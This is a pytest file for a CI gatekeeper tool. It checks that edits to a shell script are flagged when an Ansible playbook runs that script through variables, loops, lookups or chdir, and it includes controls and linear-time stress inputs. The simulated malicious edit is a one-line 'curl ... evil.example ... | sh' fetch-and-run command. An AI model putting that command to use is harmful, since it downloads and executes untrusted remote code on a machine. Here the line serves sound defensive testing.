"""Classes58: playbook forms the CI walk's playbook reader (playbookreads.py, playbookwords.py) skipped. A workflow
runs `ansible-playbook deploy/site.yml`, and the play runs `lib/x.sh` through:

- a variable (`vars:` of the play, a `vars_files:` file, `include_vars`, `set_fact`) used as `"{{ name }}"`;
- a loop's items (`loop:`, `with_items:`, `with_list:`; `{{ item }}`, `{{ item.src }}`, part of a path);
- a lookup on the controller (`lookup('pipe', 'bash ../lib/x.sh')` runs it, `lookup('file', ...)` ships its bytes);
- a task's `chdir:` (`args: chdir: ../lib` then `command: ./x.sh`, free-form `chdir=../lib`, `{{ playbook_dir }}`).

On main 2b38496 each variant left `lib/x.sh` `src` and `gate --tree` allowed its edit (exit 0). Every variant sits in a
folder of its own in one repository (a workflow per variant), gated once with `--tree`. The controls keep `src`: a
variable no command uses, a loop over other files, an absolute `chdir:` (a folder of the managed host), a lookup of
another file.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from cpucost import within_cpu
from tables import each_case

from gatekeeper.classify.playbookwords import variables, words

PLAY = "- hosts: localhost\n  connection: local\n"
TASKS = "  tasks:\n"
FORMS: dict[str, tuple[str, dict[str, str]]] = {  # name: (the play after its hosts, other files of deploy/)
    "play-vars": ("  vars:\n    setup_script: ../lib/x.sh\n" + TASKS + '    - script: "{{ setup_script }}"\n', {}),
    "play-vars-flow": ("  vars: {tool: ../lib/x.sh}\n" + TASKS + "    - shell: bash {{ tool }} --check\n", {}),
    "play-vars-quoted": ("  vars:\n    tool: '../lib/x.sh'\n" + TASKS + "    - command: \"sh {{tool}}\"\n", {}),
    "vars-files": ("  vars_files:\n    - vars/main.yml\n" + TASKS + '    - script: "{{ setup_script }}"\n',
                   {"vars/main.yml": "---\nsetup_script: ../lib/x.sh\n"}),
    "include-vars": (TASKS + "    - include_vars: vars/paths.yml\n"
                     "    - ansible.builtin.shell: \"bash {{ paths_setup }}\"\n",
                     {"vars/paths.yml": "paths_setup: \"../lib/x.sh\"\n"}),
    "set-fact": (TASKS + "    - set_fact:\n        tool: ../lib/x.sh\n    - script: \"{{ tool }}\"\n", {}),
    "two-levels": ("  vars:\n    lib: ../lib\n    tool: \"{{ lib }}/x.sh\"\n" + TASKS
                   + '    - script: "{{ tool }}"\n', {}),
    "loop-flow": (TASKS + '    - script: "{{ item }}"\n      loop: [../lib/x.sh, ../lib/y.sh]\n', {}),
    "with-items": (TASKS + '    - script: "{{ item }}"\n      with_items:\n        - ../lib/x.sh\n'
                   "        - ../lib/y.sh\n", {}),
    "loop-part": (TASKS + '    - script: "../lib/{{ item }}.sh"\n      loop:\n        - x\n        - y\n', {}),
    "loop-mapping": (TASKS + "    - copy: src={{ item.src }} dest=/opt/{{ item.dest }}\n      loop:\n"
                     "        - { src: ../lib/x.sh, dest: x }\n", {}),
    "loop-mapping-block": (TASKS + '    - ansible.builtin.script: "{{ item.path }}"\n      with_list:\n'
                           "        - path: ../lib/x.sh\n          why: setup\n", {}),
    "lookup-pipe": (TASKS + "    - debug:\n        msg: \"{{ lookup('pipe', 'bash ../lib/x.sh') }}\"\n", {}),
    "query-pipe": (TASKS + "    - set_fact:\n        out: \"{{ query('ansible.builtin.pipe', 'sh ../lib/x.sh') }}\"\n",
                   {}),
    "lookup-pipe-double": (TASKS + "    - debug:\n        msg: '{{ lookup(\"pipe\", \"../lib/x.sh --version\") }}'\n",
                           {}),
    "lookup-file": (TASKS + "    - copy:\n        content: \"{{ lookup('file', '../lib/x.sh') }}\"\n"
                    "        dest: /opt/x.sh\n", {}),
    "lookup-template": (TASKS + "    - copy:\n        content: \"{{ lookup('ansible.builtin.template', "
                        "'../lib/x.sh') }}\"\n        dest: /opt/x.sh\n", {}),
    "chdir-args": (TASKS + "    - command: ./x.sh\n      args:\n        chdir: ../lib\n", {}),
    "chdir-free-form": (TASKS + "    - command: chdir=../lib ./x.sh --now\n", {}),
    "chdir-module-arg": (TASKS + "    - ansible.builtin.shell:\n        cmd: sh x.sh\n        chdir: ../lib\n", {}),
    "chdir-playbook-dir": (TASKS + "    - shell: ./x.sh\n      args:\n        chdir: \"{{ playbook_dir }}/../lib\"\n",
                           {}),
}
WORKFLOW = ("on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: ansible-playbook -i localhost, deploy/site.yml\n        working-directory: {folder}\n")
BEFORE, AFTER = "#!/bin/sh\necho ok\n", "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bool]:
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    for number, (play, others) in enumerate(FORMS.values()):
        base[f".github/workflows/v{number}.yml"] = WORKFLOW.format(folder=f"v{number}")
        base[f"v{number}/deploy/site.yml"] = PLAY + play
        base |= {f"v{number}/deploy/{path}": text for path, text in others.items()}
        base[f"v{number}/lib/x.sh"] = BEFORE
        head[f"v{number}/lib/x.sh"] = AFTER
    code, named = gated_rules(committed(tmp_path_factory.mktemp("forms"), base, head), True)
    found = {*named.get("core.ci", []), *named.get("core.iac", [])}
    return {name: f"v{number}/lib/x.sh" in found for number, name in enumerate(FORMS)}


@each_case("name", FORMS)
def test_a_script_the_play_runs_in_another_form_is_read(reviewed: dict[str, bool], name: str) -> None:
    assert reviewed[name]  # main 2b38496: src, exit 0


CONTROLS = {
    "unused-variable": "  vars:\n    setup_script: ../lib/x.sh\n" + TASKS + "    - script: ../lib/y.sh\n",
    "loop-over-others": TASKS + '    - script: "{{ item }}"\n      loop: [../lib/y.sh]\n',
    "absolute-chdir": TASKS + "    - command: ./x.sh\n      args:\n        chdir: /opt/app\n",
    "lookup-other": TASKS + "    - debug:\n        msg: \"{{ lookup('file', '../lib/y.sh') }}\"\n",
    "printed-variable": "  vars:\n    tool: ../lib/x.sh\n" + TASKS + '    - debug:\n        msg: "{{ tool }}"\n',
}


@each_case("name", CONTROLS)
def test_a_play_that_does_not_run_it_leaves_it_src(tmp_path: Path, name: str) -> None:
    base = {".github/workflows/d.yml": WORKFLOW.format(folder="."), "deploy/site.yml": PLAY + CONTROLS[name],
            "lib/x.sh": BEFORE, "lib/y.sh": BEFORE}
    assert gated_rules(committed(tmp_path, base, {"lib/x.sh": AFTER}), True) == (0, {})


def test_the_values_read() -> None:
    text = ("  vars:\n    a: ../x.sh\n    b: '../y.sh'\n  tasks:\n    - script: \"{{ item }}\"\n"
            "      loop: [one.sh, 'two.sh']\n    - copy: src={{ item.src }}\n      with_items:\n"
            "        - { src: three.sh, dest: /x }\n        - src: four.sh\n")
    found = variables(text)
    assert found["a"] == ["../x.sh"] and found["b"] == ["../y.sh"]
    assert found["item"] == ["one.sh", "two.sh"] and found["item.src"] == ["three.sh", "four.sh"]
    assert {w.path for w in words(text, "deploy/site.yml", "deploy")} == {"one.sh", "two.sh", "three.sh", "four.sh"}


@each_case("hostile", ["a: b\n" * 50_000, "    - x\n" * 50_000,
                                     "loop:\n" + "  - {{ item }}\n" * 30_000,
                                     "script: " + "{{ a }}" * 20_000 + "\na: {{ a }}{{ a }}\n",
                                     "v: " + "x" * 200_000 + "\nscript: '{{ v }}'\n",
                                     "with_items:\n" + "  - " + "k: v, " * 40_000 + "\n"])
def test_variables_are_read_in_linear_time(hostile: str) -> None:
    """Each variable keeps MAX_VALUES values, a value expands to MAX_VALUES at most, a loop's block is read for
    4 * MAX_VALUES lines: a hostile play costs what its length does."""
    within_cpu(2.0, lambda: words(hostile, "site.yml", ""))
